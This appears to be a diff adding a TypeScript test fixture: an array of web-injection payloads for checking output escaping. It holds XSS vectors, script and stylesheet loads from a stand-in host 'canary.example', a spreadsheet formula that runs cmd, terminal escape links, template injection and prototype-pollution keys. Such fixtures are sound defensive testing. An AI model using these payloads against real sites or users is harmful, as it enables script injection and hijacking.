@@ -1,0 +1,30 @@
+// What makes a page of a text where one is made of it carelessly.
+
+/** As short as a name may be, so that each can stand anywhere. */
+export const scripts: readonly string[] = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg/onload=alert(1)>",
+  `"><iframe src="javascript:alert(1)">`,
+  "</pre></title><script src=//canary.example/x></script>",
+  "<!--<html><body onload=alert(1)>",
+  "<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script>",
+  "\u001b]8;;javascript:alert(1)\u0007click\u001b]8;;\u0007",
+  '\u001b]8;;https://canary.example/" onmouseover=alert(1) x="\u0007x',
+  "{{constructor.constructor('alert(1)')()}}",
+  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+  "=cmd|' /C calc'!A0",
+  "javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "<a href=javascript:alert(1)>x</a>",
+  "' autofocus onfocus=alert(1) x='",
+  "<link rel=stylesheet href=//canary.example/x.css>",
+  "<style>@import'//canary.example/x.css';</style>",
+  "<base href=//canary.example/><form action=x>",
+  "<meta http-equiv=refresh content='0;url=//canary.example'>",
+  "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
+  "<template><img src=//canary.example/x></template>",
+  "url(//canary.example/x);}*{background:url(//canary.example/y)",
+  "__proto__",
+  "\u202e<\u200bscript>alert(1)</script>",
+];
